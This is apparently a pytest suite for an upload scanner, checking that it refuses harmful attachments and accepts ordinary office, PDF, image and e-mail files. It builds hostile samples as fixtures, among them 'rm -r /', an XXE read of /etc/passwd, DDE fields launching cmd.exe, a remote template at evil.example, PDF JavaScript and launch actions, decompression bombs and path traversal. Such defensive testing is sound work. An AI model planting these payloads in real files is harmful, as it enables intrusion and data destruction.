"""What is in a file that is handed in: each way of doing harm is refused with what to do, and what people really send comes in."""

from __future__ import annotations

import io
import zipfile
import zlib
from email.message import EmailMessage

import docx
import pikepdf
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from xlsxwriter import Workbook

from cspr.operations import inside
from cspr.operations.files import ATTACHMENTS
from tests.chronology.files.making import excel, open_document, paragraph, saved, word, word_parts, zipped
from tests.chronology.files.test_refused import flagged, locked

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PROGRAM = b"MZ\x90\0" + bytes(300)


def pdf(more: str = "", packed: bytes = b"", dictionary: str = "") -> bytes:
    """A small PDF with something more in its catalogue, or in a packed stream."""
    stream = f"2 0 obj <</Length {len(packed)} {dictionary}>> stream\n".encode() + packed + b"\nendstream endobj\n" if packed else b""
    return f"%PDF-1.7\n1 0 obj <</Type /Catalog {more}>> endobj\n".encode() + stream + b"trailer <</Root 1 0 R>>\n%%EOF\n"


def real_pdf(change: str = "") -> bytes:
    """A PDF that a library writes, its objects packed, with something in it that acts."""
    made = pikepdf.new()
    made.add_blank_page()
    if change == "script":
        made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    elif change == "launch":
        made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")
    elif change == "attachment":
        made.attachments["notes.txt"] = pikepdf.AttachedFileSpec(made, b"made up")
    file = io.BytesIO()
    encryption = pikepdf.Encryption(owner="made-up", user="") if change == "locked" else False
    made.save(file, object_stream_mode=pikepdf.ObjectStreamMode.generate, encryption=encryption)
    return file.getvalue()


def mail(attached: bytes = b"", name: str = "notes.pdf") -> bytes:
    """An e-mail, with something attached."""
    made = EmailMessage()
    made["From"], made["To"], made["Subject"] = "a@example.org", "b@example.org", "Notes"
    made.set_content("Please find attached.\n")
    if attached:
        made.add_attachment(attached, maintype="application", subtype="octet-stream", filename=name)
    return made.as_bytes()


def outlook(*parts: str) -> bytes:
    """The beginning of an Outlook message, which names its parts in two bytes a letter."""
    return OLE + b"".join(part.encode("utf-16-le") + bytes(40) for part in ("__substg1.0_0037001F", *parts))


def relation(kind: str, target: str) -> str:
    return f'<Relationships><Relationship Id="rId9" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'


def chart() -> bytes:
    """A real workbook with a chart."""
    file = io.BytesIO()
    with Workbook(file, {"in_memory": True}) as book:
        sheet = book.add_worksheet()
        sheet.write_column("A1", [1, 2, 3])
        picture = book.add_chart({"type": "column"})
        picture.add_series({"values": "=Sheet1!$A$1:$A$3"})
        sheet.insert_chart("C1", picture)
    return file.getvalue()


PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(17) + b"\0\0\0\0IEND\xaeB`\x82"
JPEG = b"\xff\xd8\xff\xe0" + bytes(60) + b"\xff\xd9"
GOOD = word(paragraph("Seen"))
ODT = zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"})
PPTX = zipped({"[Content_Types].xml": '<Types><Override PartName="/ppt/presentation.xml" ContentType="application/vnd.openxmlformats-'
               'officedocument.presentationml.presentation.main+xml"/></Types>', "ppt/presentation.xml": "<p/>"})
OPENED_ELSEWHERE = '<w:document xmlns:w="x"><w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe </w:instrText></w:document>'

HARM = {
    "a program": (PROGRAM, "a program"), "a program of Linux": (b"\x7fELF" + bytes(50), "a program"),
    "a script": (b"#!/bin/sh\nrm -r /\n", "a program"),
    "a shortcut": (b"L\0\0\0\x01\x14\x02\0" + bytes(50), "a program"),
    "an archive": (zipped({"a.txt": "x"}), "archive"), "RAR": (b"Rar!\x1a\x07\0", "archive"), "gzip": (b"\x1f\x8b\x08" + bytes(20), "archive"),
    "an archive within a picture": (PNG + zipped({"a.txt": "x"}), "hidden at its end"),
    "an archive within a PDF": (real_pdf() + zipped({"a.txt": "x"}), "hidden at its end"),
    "a PDF within a picture": (JPEG[:20] + real_pdf(), "two kinds"),
    "Word of 1997": (OLE + "WordDocument".encode("utf-16-le"), "old format"),
    "a workbook under a password": (locked(), "password"), "a zip under a password": (flagged(GOOD), "password"),
    "an OpenDocument under a password": (open_document("", **{"META-INF/manifest.xml": "<m:m xmlns:m='x'><m:encryption-data/></m:m>"}), "password"),
    "a document with macros": (zipped({**word_parts(paragraph("x")), "word/vbaProject.bin": OLE}), "macros"),
    "a workbook with a macro sheet": (excel("<sheetData/>", **{"xl/macrosheets/sheet1.xml": "<x/>"}), "macros"),
    "a document that is said to have macros": (zipped({**word_parts(""), "[Content_Types].xml": '<Types><Override PartName="/word/document.xml" '
        'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'}), "macros"),
    "an OpenDocument with Basic": (open_document("", **{"Basic/Standard/Module1.xml": "<x/>"}), "macros"),
    "a control": (zipped({**word_parts(""), "word/activeX/activeX1.xml": "<x/>"}), "macros"),
    "an object of another program": (zipped({**word_parts(""), "word/embeddings/oleObject1.bin": OLE}), "packed inside"),
    "a program in a document": (zipped({**word_parts(""), "word/media/image1.png": PROGRAM}), "packed inside"),
    "a program in an OpenDocument": (open_document("", **{"Object 1": PROGRAM}), "packed inside"),
    "macros two levels down": (zipped({**word_parts(""), "word/embeddings/a.xlsx": excel("<sheetData/>", **{"xl/vbaProject.bin": OLE})}), "macros"),
    "a document in a document in a document": (zipped({**word_parts(""), "word/embeddings/a.docx": zipped({
        **word_parts(""), "word/embeddings/b.docx": GOOD})}), "packed inside"),
    "an outside entity": (zipped({**word_parts(""), "word/document.xml": '<!DOCTYPE x [<!ENTITY s SYSTEM "file:///etc/passwd">]><x>&s;</x>'}),
                          "DOCTYPE"),
    "an entity across two pieces": (zipped({
        **word_parts(""), "word/document.xml": "<!--" + "x" * (64 * 1024 - 10) + "--><!DOCTYPE x><x/>"}), "DOCTYPE"),
    "an entity in two bytes a letter": (zipped({**word_parts(""), "word/document.xml": "<!DOCTYPE x><x/>".encode("utf-16")}), "DOCTYPE"),
    "a field that starts a program": (zipped({**word_parts(""), "word/document.xml": OPENED_ELSEWHERE}), "start something"),
    "a link that starts a program": (excel("<sheetData/>", **{"xl/externalLinks/externalLink1.xml": '<x><ddeLink ddeService="cmd"/></x>'}),
                                     "start something"),
    "a slide that starts a program": (zipped({"[Content_Types].xml": zipfile.ZipFile(io.BytesIO(PPTX)).read("[Content_Types].xml"),
        "ppt/presentation.xml": '<a action="ppaction://program"/>'}), "start something"),
    "a template of the web": (zipped({**word_parts(""), "word/_rels/settings.xml.rels": relation("attachedTemplate", "https://evil.example/t.dotm")}),
                              "fetch something"),
    "an object of elsewhere": (zipped({**word_parts(""), "word/_rels/document.xml.rels": relation("oleObject", "file:///x")}), "fetch something"),
    "a bomb": (zipped({**word_parts(""), "word/media/a.xml": b"<x>" + b" " * (30 * 1024 * 1024) + b"</x>"}), "far more"),
    "a bomb of pictures": (zipped({**word_parts(""), **{f"word/media/{n}.png": bytes(60 * 1024 * 1024) for n in range(2)}}), "far more"),
    "too many parts": (zipped({**word_parts(""), **{f"word/{n}.bin": "" for n in range(5_001)}}), "far more"),
    "a part outside the file": (zipped({**word_parts(""), "../../x": "x"}), "no office program"),
    "half a document": (GOOD[:len(GOOD) // 2], "damaged"),
    "a PDF with a script": (pdf("/OpenAction <</S /JavaScript /JS (app.alert\\(1\\))>>"), "script"),
    "a PDF whose script is written oddly": (pdf("/OpenAction <</S /J#61vaScr#69pt /JS (x)>>"), "script"),
    "a PDF whose script is packed": (real_pdf("script"), "script"), "a PDF that starts a program": (real_pdf("launch"), "start a program"),
    "a PDF with a file": (real_pdf("attachment"), "packed inside"), "a PDF that is locked": (real_pdf("locked"), "password"),
    "a PDF that is a changing form": (pdf("/AcroForm <</XFA [(x) 3 0 R]>>"), "form"),
    "a PDF packed in another way": (pdf(packed=b"78da>", dictionary="/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]"), "looked into"),
    "a PDF that unpacks without end": (pdf(packed=zlib.compress(bytes(120 * 1024 * 1024)), dictionary="/Filter /FlateDecode"), "far more"),
    "an RTF with an object": (b"{\\rtf1 {\\object\\objemb{\\*\\objdata 0105}}}", "packed inside"),
    "an RTF with a template of the web": (b"{\\rtf1 {\\*\\template https://evil.example/t.dotm}}", "packed inside"),
    "an Outlook message with something attached": (outlook("__attach_version1.0_#00000000"), "attached"),
    "an e-mail with a program": (mail(PROGRAM, "notes.pdf"), "attached to it cannot be taken in: is a program"),
    "an e-mail with a script": (mail(b"WScript.Echo 1", "notes.vbs"), "of a kind"),
    "an e-mail with macros": (mail(zipped({**word_parts(""), "word/vbaProject.bin": OLE}), "a.docx"), "macros"),
}


@pytest.mark.clause("D11")
@pytest.mark.parametrize("what", HARM)
def test_what_can_do_harm_is_refused_with_what_to_do(what: str) -> None:
    content, words = HARM[what]
    with pytest.raises(inside.Harm) as harm:
        inside.look(content)
    says = str(harm.value)
    assert words in says and says[0].isupper() and says.endswith(".")
    assert any(word in says.lower() for word in ("send", "save"))
    assert "etc/passwd" not in says and "evil" not in says


TAKEN_IN = {
    "docx": GOOD, "xlsx": chart(), "pptx": PPTX, "odt": ODT, "ods": open_document(""), "csv": b"Date,Event\n1/1/2026,Visit\n",
    "txt": "Größe\r\n".encode("utf-16"), "rtf": b"{\\rtf1 Seen}", "png": PNG, "jpg": JPEG, "jpeg": JPEG, "msg": outlook(), "eml": mail(real_pdf()),
    "pdf": real_pdf(),
}


def test_every_kind_that_is_taken_in_has_its_example() -> None:
    assert set(TAKEN_IN) == set(ATTACHMENTS)


@pytest.mark.parametrize("ending", TAKEN_IN)
def test_what_people_send_comes_in_and_under_no_other_name(ending: str) -> None:
    inside.look(TAKEN_IN[ending])
    inside.agrees(TAKEN_IN[ending], ending)
    alike = {"csv": {"txt"}, "txt": {"csv"}, "jpg": {"jpeg"}, "jpeg": {"jpg"}, "eml": {"csv", "txt"}}.get(ending, set())
    for other in set(TAKEN_IN) - {ending} - alike:
        with pytest.raises(inside.Harm, match="Its name says"):
            inside.agrees(TAKEN_IN[ending], other)


@pytest.mark.parametrize(("ending", "content"), [
    ("png", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"), ("jpg", b"<html><script>alert(1)</script></html>"),
    ("pdf", b"<html>%PDF-1.7</html>"), ("docx", b"%PDF-1.7\n%%EOF"), ("txt", bytes(range(32)) * 4), ("eml", b"Dear all,\n\nplease find"),
])
def test_what_is_not_what_its_name_says_is_refused(ending: str, content: bytes) -> None:
    with pytest.raises(inside.Harm, match="Its name says that it is"):
        inside.agrees(content, ending)


@pytest.mark.parametrize("ending", ["pdf", "png", "jpg"])
def test_half_a_file_is_refused(ending: str) -> None:
    with pytest.raises(inside.Harm, match="not sent whole"):
        inside.agrees(TAKEN_IN[ending][:40], ending)


def test_what_office_programs_really_write_comes_in() -> None:
    made = docx.Document()
    made.add_paragraph("Seen")
    inside.look(saved(made))
    inside.look(zipped({**word_parts(paragraph("Seen")), "word/embeddings/Microsoft_Excel_Sheet1.xlsx": chart()}))
    inside.look(zipped({**word_parts(paragraph("Seen")), "word/_rels/settings.xml.rels": relation("attachedTemplate", "file:///S:/Letters/Council.dotx"),
                        "word/_rels/document.xml.rels": relation("hyperlink", "https://www.example.org/")}))


@given(st.binary(max_size=400) | st.sampled_from([real_pdf("script"), GOOD, mail(b"x", "a.txt"), outlook()]).flatmap(
    lambda content: st.tuples(st.integers(0, len(content) - 1), st.binary(max_size=8)).map(
        lambda change: content[:change[0]] + change[1] + content[change[0] + len(change[1]):])))
@example(b"")
@example(b"PK\x03\x04")
def test_whatever_comes_is_looked_through_or_refused(content: bytes) -> None:
    for ending in ("pdf", "docx", "eml"):
        try:
            inside.look(content)
            inside.agrees(content, ending)
        except inside.Harm as harm:
            assert str(harm)
